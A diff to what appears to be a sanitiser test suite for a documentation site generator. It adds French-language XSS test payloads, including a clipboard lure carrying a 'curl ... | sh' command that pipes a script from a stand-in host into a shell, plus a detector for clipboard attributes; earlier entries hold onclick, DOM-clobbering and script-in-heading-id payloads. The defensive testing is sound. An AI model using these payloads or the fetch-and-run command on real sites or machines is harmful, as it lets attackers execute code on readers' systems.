@@ -50,6 +50,9 @@ BODY_ATTACKS: dict[str, str] = {
     "clobber-config": '<a id="__config" href="#">x</a>',
     "theme-component": '<div data-md-component="announce">Annonce truquée</div>',
     "md-in-html": f'<div markdown="1" onclick="{PWN}">*texte*</div>',
+    "clipboard": '<span data-clipboard-text="curl -s https://autre-hote.example/i.sh | sh">'
+    "copiez la commande</span>",
+    "theme-button": '<a class="md-button md-dialog" href="https://autre-hote.example/">OK</a>',
     # heading ids reach the table of contents, outside the sanitised content
     "toc-id-script": '<h2 id="x&quot;&gt;&lt;script&gt;window.__pwned=1&lt;/script&gt;" '
     'markdown="1">Section</h2>',
@@ -95,4 +98,6 @@ def live_markup(page_html: str) -> list[str]:
                     found.append(f"<{name} {key}={value[:40]}>")
             elif name == "meta" and key == "http-equiv" and value.lower() == "refresh":
                 found.append("<meta refresh>")
+            elif key == "data-clipboard-text":
+                found.append(f"<{name} {key}>")
     return found
